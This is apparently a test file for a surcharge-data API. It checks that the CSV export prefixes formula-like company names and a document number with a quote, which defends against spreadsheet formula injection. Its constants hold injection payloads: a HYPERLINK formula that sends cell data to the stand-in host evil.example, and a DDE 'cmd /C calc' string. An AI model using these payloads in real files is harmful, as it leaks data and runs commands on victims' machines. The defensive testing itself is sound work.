import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCsv } from '../e2e/support/csv.js';
import { startApi } from './support/harness.js';
import type { Harness } from './support/harness.js';
import { uploadedSample } from './support/uploads.js';

/**
 * The server's 差别化电价 CSV with names (from an uploaded file) and a 依据文号 (from the query string)
 * that would be formulas in Excel or WPS: each reaches the file as text, prefixed with `'`, and a CR in
 * a name stays inside its cell. The county is tests/fixtures/surcharges' 2025, renamed.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"点击查看")';
const RENAMED: Readonly<Record<string, string>> = {
  '91331003MA2FTC0015': HYPERLINK,
  '91331003MA2FTC0028': '+86 黄岩新华纸品厂',
  '91331003MA2FTC003B': '兴达\r塑料厂',
  '91331003MA2FTC004E': '@SUM(A1:A9)五金厂',
};
const DOC_NO = "-2+3+cmd|' /C calc'!A0";

function hostileData(): Buffer {
  const text = readFileSync(
    fileURLToPath(new URL('../fixtures/surcharges/data-2025.csv', import.meta.url)),
    'utf8',
  );
  const lines = text.split(/\r?\n/).map((line) => {
    const [code = '', , ...rest] = line.split(',');
    const name = RENAMED[code];
    return name === undefined ? line : [code, `"${name.replaceAll('"', '""')}"`, ...rest].join(',');
  });
  return Buffer.from(lines.join('\r\n'), 'utf8');
}

let h: Harness;
let id = '';

beforeAll(async () => {
  h = await startApi();
  const admin = h.tokens.admin;
  id = await uploadedSample(h, { file: 'data-2025.csv', bytes: hostileData(), year: '2025' });
  const steps = [
    () => h.api.call('post', '/v1/evaluations/{id}/publication', { token: admin, params: { id }, body: {} }),
    () => h.api.call('post', '/v1/evaluations/{id}/recomputation', { token: admin, params: { id } }),
    () => h.api.call('post', '/v1/evaluations/{id}/finalization', { token: admin, params: { id } }),
  ];
  const [publish, recompute, finalize] = steps;
  if ((await publish?.())?.status !== 201) throw new Error('setup: publish');
  h.clock.set('2025-06-20T02:00:00.000Z');
  if ((await recompute?.())?.status !== 201) throw new Error('setup: recompute');
  if ((await finalize?.())?.status !== 201) throw new Error('setup: finalize');
});
afterAll(() => h.close());

describe('GET /v1/evaluations/{id}/surcharges?format=csv with formula-like names', () => {
  it('writes every row back to its 13 fields, names and 文号 prefixed with a quote', async () => {
    const query = new URLSearchParams({ docNo: DOC_NO, format: 'csv' }).toString();
    const res = await fetch(`${h.base}/v1/evaluations/${id}/surcharges?${query}`, {
      headers: { authorization: `Bearer ${h.tokens.power}` },
    });
    expect(res.status).toBe(200);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = readCsv(bytes.subarray(3).toString('utf8'));
    expect(rows).toHaveLength(6);
    for (const row of rows) expect(row).toHaveLength(13);
    expect(rows.slice(1).map((row) => [row[0], row[1], row[11]])).toEqual([
      ['91331003MA2FTC0015', `'${HYPERLINK}`, `'${DOC_NO}`],
      ['91331003MA2FTC0015', `'${HYPERLINK}`, `'${DOC_NO}`],
      ['91331003MA2FTC0028', "'+86 黄岩新华纸品厂", `'${DOC_NO}`],
      ['91331003MA2FTC003B', '兴达\r塑料厂', `'${DOC_NO}`],
      ['91331003MA2FTC004E', "'@SUM(A1:A9)五金厂", `'${DOC_NO}`],
    ]);
  });
});
